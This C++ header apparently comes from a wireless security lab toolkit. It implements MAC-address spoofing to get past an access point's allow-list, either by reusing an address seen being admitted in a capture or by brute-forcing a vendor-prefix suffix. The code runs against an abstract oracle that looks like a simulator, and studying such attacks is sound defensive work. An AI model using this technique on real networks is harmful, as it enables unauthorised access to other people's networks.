#pragma once

#include <array>
#include <cstdint>
#include <vector>

#include "wavelab/capture.hpp"
#include "wavelab/oracle.hpp"

namespace wavelab::attacks {

struct SpoofResult {
  Mac mac;
  std::size_t probes = 0;
};

namespace detail {

/// One AuthRequest under a candidate address. A challenge or a successful
/// result means the address passed the allow-list.
inline bool probe_admitted(Oracle& oracle, const Mac& candidate, const Mac& bssid) {
  oracle.set_mac(candidate);
  Frame req;
  req.ftype = FrameType::AuthRequest;
  req.src = candidate;
  req.dst = bssid;
  req.bssid = bssid;
  req.body = Bytes{};
  for (const auto& f : oracle.exchange(std::move(req))) {
    if (f.src != bssid || f.dst != candidate) continue;
    if (f.ftype == FrameType::AuthChallenge) return true;
    if (f.ftype == FrameType::AuthResult && !f.is_wep() && !f.clear().empty() && f.clear()[0] == status::kSuccess)
      return true;
  }
  return false;
}

}  // namespace detail

/// Addresses the AP accepted, in order of first appearance in the capture.
inline std::vector<Mac> admitted_stations(const Capture& capture, const Mac& bssid) {
  std::vector<Mac> out;
  for (const auto& r : capture) {
    const Frame& f = r.frame;
    bool ok_result = (f.ftype == FrameType::AuthResult || f.ftype == FrameType::AssocResponse) && f.src == bssid &&
                     !f.is_wep() && !f.clear().empty() && f.clear()[0] == status::kSuccess;
    if (ok_result && std::find(out.begin(), out.end(), f.dst) == out.end()) out.push_back(f.dst);
  }
  return out;
}

/// Observe mode: borrow the address of a station seen being admitted.
inline SpoofResult spoof_mac_observed(const Capture& capture, Oracle& oracle, const Mac& bssid) {
  SpoofResult r;
  for (const auto& m : admitted_stations(capture, bssid)) {
    ++r.probes;
    if (detail::probe_admitted(oracle, m, bssid)) {
      r.mac = m;
      return r;
    }
  }
  throw Error(ErrorKind::Exhausted, "no observed station address was admitted");
}

/// Trial-and-error mode: walk the 24-bit device suffix under one vendor
/// prefix, starting at `start`, for at most `budget` probes.
inline SpoofResult spoof_mac_search(Oracle& oracle, const Mac& bssid, std::array<std::uint8_t, 3> oui,
                                    std::uint32_t start, std::size_t budget) {
  SpoofResult r;
  for (std::size_t i = 0; i < budget && i < (std::size_t{1} << 24); ++i) {
    Mac candidate = Mac::from_parts(oui, static_cast<std::uint32_t>((start + i) & 0xFFFFFF));
    ++r.probes;
    if (detail::probe_admitted(oracle, candidate, bssid)) {
      r.mac = candidate;
      return r;
    }
  }
  throw Error(ErrorKind::Exhausted, "no address admitted within the search budget");
}

}  // namespace wavelab::attacks
